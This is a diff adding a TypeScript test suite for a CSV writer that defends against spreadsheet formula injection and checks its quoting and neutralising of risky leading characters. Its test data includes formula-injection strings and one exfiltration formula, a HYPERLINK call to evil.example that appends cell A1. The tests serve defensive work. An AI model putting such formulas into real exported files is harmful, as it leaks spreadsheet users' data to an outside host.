@@ -1,0 +1,104 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { parse } from 'csv-parse/sync';
+import * as fc from 'fast-check';
+import { csvRecord } from '../../../src/node/codes/csv.ts';
+
+function cellsOf(record: string): readonly string[] {
+  const [cells = []] = parse(record, { relax_column_count: true });
+  return cells;
+}
+
+const hostile = fc.oneof(
+  fc.constantFrom('\r', '\n', '\t', '\0', '"', "'", ',', ';', '=', '+', '-', '@', '＝'),
+  fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
+);
+
+function withoutApostrophes(text: string): string {
+  return text.replaceAll("'", '');
+}
+
+/** What a reader begins with after its separator or a line, where no quotes hold it together. */
+function beginningsOf(record: string, separator: string): readonly string[] {
+  return record.split(new RegExp(`[${separator}\r\n]`)).slice(1);
+}
+
+describe('csvRecord()', () => {
+  it('quotes by RFC 4180', () => {
+    assert.equal(
+      csvRecord(['a,b', 'say "x"', 'two\r\nlines', 'plain', '']),
+      '"a,b","say ""x""","two\r\nlines",plain,\r\n',
+    );
+  });
+
+  it('writes what a spreadsheet would run as text', () => {
+    const formulas = [
+      '=1+1',
+      '+62812',
+      '-1',
+      '@SUM(A1)',
+      '\tx',
+      '\rx',
+      '\nx',
+      '\0x',
+      '＝1',
+      '＋1',
+      '－1',
+      '＠x',
+    ];
+    for (const formula of formulas) {
+      assert.deepEqual(cellsOf(csvRecord([formula, 'x'])), [`'${formula}`, 'x']);
+    }
+    const link = '=HYPERLINK("http://evil.example?"&A1)';
+    assert.equal(cellsOf(csvRecord([link]))[0], `'${link}`);
+  });
+
+  it('keeps as text what a spreadsheet would take for a number and not give back', () => {
+    for (const text of ['081234567890', '00', '7412345678901234567', '00123E45', '12e5']) {
+      assert.deepEqual(cellsOf(csvRecord([text, 'x'], { isOpened: true })), [`'${text}`, 'x']);
+      assert.deepEqual(cellsOf(csvRecord([text])), [text], 'a program gets what was sent');
+    }
+    const kept = [
+      '0',
+      '628123456789',
+      '123456789012345',
+      '0x1F',
+      '0.5',
+      'E45',
+      '12E',
+      '2026-03-01',
+    ];
+    assert.deepEqual(cellsOf(csvRecord(kept, { isOpened: true })), kept);
+  });
+
+  it('leaves numbers, booleans and nothing alone', () => {
+    assert.equal(csvRecord([-1, 2, true, null, undefined]), '-1,2,true,,\r\n');
+  });
+
+  it('writes as text what is a cell of its own where semicolons or tabs part them', () => {
+    assert.deepEqual(cellsOf(csvRecord(['Ann;=1+1;', 'x'])), ["Ann;'=1+1;", 'x']);
+    assert.deepEqual(cellsOf(csvRecord(['a\r\n=b', 'c;"@d'])), ["a\r\n'=b", 'c;"\'@d']);
+    const harmless = ['two\r\nlines', 'a; b', 'a\tb', 'a;1', 'a-b=c'];
+    assert.deepEqual(cellsOf(csvRecord(harmless)), harmless);
+    fc.assert(
+      fc.property(fc.array(fc.string({ unit: hostile }), { minLength: 1 }), (texts) => {
+        for (const separator of [';', '\t']) {
+          for (const cell of beginningsOf(csvRecord(texts), separator)) {
+            assert.doesNotMatch(cell, /^["\t\0]*[=+\-@＝＋－＠]/);
+          }
+        }
+      }),
+    );
+  });
+
+  it('gives every text back, and none as a formula', () => {
+    fc.assert(
+      fc.property(fc.array(fc.string({ unit: hostile }), { minLength: 2 }), (texts) => {
+        const cells = cellsOf(csvRecord(texts));
+        assert.equal(cells.length, texts.length);
+        assert.deepEqual(cells.map(withoutApostrophes), texts.map(withoutApostrophes));
+        for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r\n\0＝＋－＠]/);
+      }),
+    );
+  });
+});
